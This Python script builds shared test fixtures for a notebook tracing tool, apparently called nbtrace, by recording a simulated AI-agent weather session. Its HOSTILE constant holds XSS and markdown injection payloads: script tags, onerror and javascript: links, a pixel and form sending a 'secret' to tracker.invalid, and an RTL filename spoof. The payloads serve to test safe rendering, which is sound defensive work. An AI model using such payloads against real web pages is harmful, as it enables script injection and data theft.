"""Write the Arrow files that the Python and the JavaScript tests share.

    python tools/make_fixtures.py            # rewrites tests/fixtures/*.arrow and text.json

One session with fixed ids and times goes through the real SDK, store and query stages, so that the files are what a
widget gets from a kernel. Running it again changes nothing.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, Final, cast

import pyarrow as pa
from opentelemetry import trace
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import Span, TracerProvider
from opentelemetry.sdk.trace.id_generator import IdGenerator

from nbtrace._query import text
from nbtrace._query.tree import tree
from nbtrace._store.store import Store
from nbtrace._trace.processor import SinkProcessor
from nbtrace._widgets.packing import packed
from nbtrace._widgets.reading import reading
from nbtrace._widgets.wire import PREVIEWED, find, ipc
from tools.fixture_session import fill_session

FIXTURES: Final = Path(__file__).parent.parent / "tests" / "fixtures"
START: Final = 1_790_000_000_000_000_000
MS: Final = 1_000_000

CELL_SOURCE: Final = """\
question = "What is the weather in Paris, and should I take an umbrella?"
answer = agent.run(question)  # calls the weather tool once
print(answer)
"""

MARKDOWN: Final = """\
It is **14 °C** and raining in Paris, so *do* take an umbrella.

| hour | rain |
|------|------|
| 12   | 0.4 mm |
| 18   | 2.1 mm |

```python
take("umbrella")
```

1. Wear a coat.
2. Leave early. See [the forecast](https://example.org/paris).
"""

HOSTILE: Final = (
    "<script>globalThis.pwned = 1</script><img src=x onerror='globalThis.pwned = 1'>"
    '<a href="javascript:globalThis.pwned=1">click</a> [link](javascript:globalThis.pwned=1) '
    "![pixel](https://tracker.invalid/p.png?secret=1) <style>*{display:none}</style> "
    "<form action=https://tracker.invalid><input name=q></form> \u202egnp.exe\u202c $x^2$ and $\\href{javascript:1}{y}$"
)


class CountingIds(IdGenerator):
    """Ids 1, 2, 3, ..: the same in every run."""

    def __init__(self) -> None:
        self._last = 0

    def generate_span_id(self) -> int:
        """Count."""
        self._last += 1
        return self._last

    def generate_trace_id(self) -> int:
        """Put all spans in one trace."""
        return 0x0AF7651916CD43DD8448EB211C80319C


class Clock:
    """Makes spans at given milliseconds of one session."""

    def __init__(self, store: Store) -> None:
        provider = TracerProvider(
            id_generator=CountingIds(), resource=Resource({"service.name": "notebook", "process.pid": 4242})
        )
        provider.add_span_processor(SinkProcessor(store))
        self._tracer = provider.get_tracer("agents", "0.1.0")

    def span(self, name: str, start: float, end: float | None, parent: Span | None = None, **attributes: Any) -> Span:
        """Start a span and, with an end, end it; `nbtrace__x__y` names the attribute `nbtrace.x.y`."""
        context = trace.set_span_in_context(parent) if parent else None
        kind = trace.SpanKind.CLIENT if name.startswith(("chat", "embeddings")) else trace.SpanKind.INTERNAL
        span = cast("Span", self._tracer.start_span(name, context, kind, start_time=START + int(start * MS)))
        span.set_attributes({key.replace("__", "."): value for key, value in attributes.items()})
        if end is not None:
            self.end(span, end)
        return span

    def end(self, span: Span, end: float, error: str | None = None) -> None:
        """End a span, in error if one is given."""
        if error:
            span.set_status(trace.Status(trace.StatusCode.ERROR, error))
            span.add_event("exception", {"exception.message": error}, timestamp=START + int((end - 1) * MS))
        span.end(START + int(end * MS))


def usage(tokens_in: int, tokens_out: int, cost: float | None, state: str) -> Mapping[str, Any]:
    """Name the attributes of a call's tokens and cost."""
    priced = {} if cost is None else {"gen_ai__usage__cost": cost}
    return {
        "gen_ai__usage__input_tokens": tokens_in,
        "gen_ai__usage__output_tokens": tokens_out,
        "nbtrace__cost__state": state,
        "nbtrace__usage__state": "estimated" if state == "estimated" else "reported",
        **priced,
    }


def chat(model: str, inputs: list[Any], outputs: list[Any], **more: Any) -> dict[str, Any]:
    """Name the attributes of a chat call."""
    return {
        "gen_ai__operation__name": "chat",
        "gen_ai__provider__name": "openai",
        "gen_ai__request__model": model,
        "gen_ai__response__model": model,
        "gen_ai__request__temperature": 0.2,
        "gen_ai__input__messages": json.dumps(inputs),
        "gen_ai__output__messages": json.dumps(outputs),
        **more,
    }


def said(role: str, content: str) -> dict[str, Any]:
    """Make a message of one text."""
    return {"role": role, "parts": [{"type": "text", "content": content}]}


def fill(store: Store) -> None:
    """Record the session: an agent that calls a tool, a prompt, a failure, hostile text, and a call that still runs."""
    clock = Clock(store)
    cell = clock.span(
        "cell [3]", 0, None, nbtrace__span__type="cell", nbtrace__cell__id="a1b2c3d4", nbtrace__cell__execution_count=3,
        nbtrace__cell__run=2, nbtrace__cell__source=CELL_SOURCE, nbtrace__cell__outcome="ok",
    )  # fmt: skip
    agent = clock.span(
        "invoke_agent weather", 4, None, cell, gen_ai__operation__name="invoke_agent", gen_ai__agent__name="weather"
    )
    question = said("user", "What is the weather in Paris, and should I take an umbrella?")
    call = {"type": "tool_call", "id": "call_1", "name": "get_weather", "arguments": {"city": "Paris", "days": 1}}
    asked = {"role": "assistant", "parts": [{"type": "reasoning", "content": "I need the forecast first."}, call]}
    weather = {
        "city": "Paris",
        "now": {"celsius": 14, "rain": True},
        "hours": [{"at": 12, "mm": 0.4}, {"at": 18, "mm": 2.1}],
    }
    result = {"role": "tool", "parts": [{"type": "tool_call_response", "id": "call_1", "response": weather}]}
    system = json.dumps([{"type": "text", "content": "You are a brief weather assistant. Use metric units."}])
    tools = json.dumps([{"type": "function", "name": "get_weather", "parameters": {"type": "object"}}])
    clock.span(
        "embeddings text-embedding-3-small", 6, 148, agent, gen_ai__operation__name="embeddings",
        gen_ai__provider__name="openai", gen_ai__request__model="text-embedding-3-small",
        **usage(18, 0, 3.6e-7, "priced"),
    )  # fmt: skip
    clock.span("retrieval notes", 150, 204, agent, gen_ai__operation__name="retrieval", gen_ai__retrieval__top_k=3)
    clock.span(
        "chat gpt-4o-mini", 210, 980, agent,
        **chat("gpt-4o-mini", [question], [asked], gen_ai__response__finish_reasons=["tool_call"],
               gen_ai__system_instructions=system, gen_ai__tool__definitions=tools,
               **usage(412, 31, 0.0000804, "priced")),
    )  # fmt: skip
    clock.span(
        "execute_tool get_weather", 990, 1310, agent, gen_ai__operation__name="execute_tool",
        gen_ai__tool__name="get_weather", gen_ai__tool__call__arguments='{"city":"Paris","days":1}',
    )  # fmt: skip
    clock.span(
        "chat gpt-4o-mini", 1320, 2890, agent,
        **chat("gpt-4o-mini", [question, asked, result], [said("assistant", MARKDOWN)], gen_ai__request__stream=True,
               gen_ai__response__finish_reasons=["stop"], gen_ai__response__time_to_first_chunk=0.41,
               gen_ai__system_instructions=system, **usage(498, 122, 0.000148, "priced")),
    )  # fmt: skip
    clock.end(agent, 2900)
    clock.span(
        "chat smollm2-135m-instruct", 2950, 3610, cell,
        **chat("smollm2-135m-instruct", [said("user", "Summarise in five words: take an umbrella, it rains in Paris.")],
               [said("assistant", "Rainy Paris: take an umbrella.")], gen_ai__response__finish_reasons=["stop"],
               gen_ai__prompt__name="summarise", gen_ai__prompt__version="2", gen_ai__prompt__variable__words="five",
               nbtrace__prompt__template="Summarise in {words} words: {text}", nbtrace__cost__reason="no price known",
               **usage(37, 9, None, "unpriced")),
    )  # fmt: skip
    failed = clock.span(
        "chat gpt-4o", 3620, None, cell,
        gen_ai__operation__name="chat", gen_ai__provider__name="openai", gen_ai__request__model="gpt-4o",
        gen_ai__input__messages=json.dumps([said("user", "And tomorrow?")]), error__type="RateLimitError",
        http__response__status_code=429,
    )  # fmt: skip
    clock.end(failed, 3702, "Rate limit reached for gpt-4o: try again in 20 s")
    clock.span(
        "chat gpt-4o-mini " + HOSTILE, 3710, 4120, cell,
        **chat("gpt-4o-mini", [said("user", HOSTILE)], [said("assistant", HOSTILE)],
               **usage(90, 60, 0.00005, "estimated")),
    )  # fmt: skip
    clock.span(
        "chat gpt-4o-mini", 4130, None, cell,
        gen_ai__operation__name="chat", gen_ai__provider__name="openai", gen_ai__request__model="gpt-4o-mini",
    )  # fmt: skip
    clock.end(cell, 4140)


def files(store: Store) -> Iterator[tuple[str, bytes]]:
    """Make the content of every file."""
    spans = store.snapshot()
    rows = tree(spans, latest=PREVIEWED)
    yield "tree.arrow", bytes(ipc(packed(rows)))
    for name, row in {
        "cell": 0,
        "tool-chat": 4,
        "chat": 6,
        "prompt": 7,
        "failed": 8,
        "hostile": 9,
        "running": 10,
    }.items():
        span_id, trace_id = (rows[key][row].as_py().hex() for key in ("span_id", "trace_id"))
        yield f"span-{name}.arrow", bytes(ipc(reading(find(spans, span_id, trace_id))))
    yield "empty.arrow", bytes(ipc(packed(tree(Store().snapshot()))))
    session = Store()
    fill_session(session)
    spans = session.snapshot()
    rows = tree(spans, latest=PREVIEWED)
    yield "session.arrow", bytes(ipc(packed(rows)))
    ids = [[rows[key][row].as_py().hex() for key in ("span_id", "trace_id")] for row in range(rows.num_rows)]
    readings = pa.concat_tables([reading(find(spans, *one)) for one in ids])
    yield "session-spans.arrow", bytes(ipc(readings))
    yield "text.json", (json.dumps(wording(), indent=1, ensure_ascii=False) + "\n").encode()


def wording() -> dict[str, list[list[Any]]]:
    """Word a few numbers as Python does: the JavaScript must agree."""
    costs = [
        (None, "unpriced"),
        (0.0, "priced"),
        (3.6e-7, "priced"),
        (0.00312, "estimated"),
        (0.0999, "priced"),
        (12.5, None),
        (None, "replayed"),
    ]
    durations = [
        None,
        0,
        870,
        83_000,
        999_700,
        312_400_000,
        999_700_000,
        1_240_000_000,
        59_960_000_000,
        3_750_000_000_000,
    ]
    return {
        "cost": [[usd, state, text.cost(usd, state)] for usd, state in costs],
        "duration": [[ns, text.duration(ns)] for ns in durations],
        "tokens": [[number, text.tokens(number)] for number in (0, 999, 12345, 1_000_000)],
    }


def main() -> None:
    """Write the files."""
    store = Store()
    fill(store)
    FIXTURES.mkdir(parents=True, exist_ok=True)
    for name, content in files(store):
        (FIXTURES / name).write_bytes(content)
        print(f"{len(content):7,} {name}")


if __name__ == "__main__":
    pa.set_cpu_count(1)
    main()
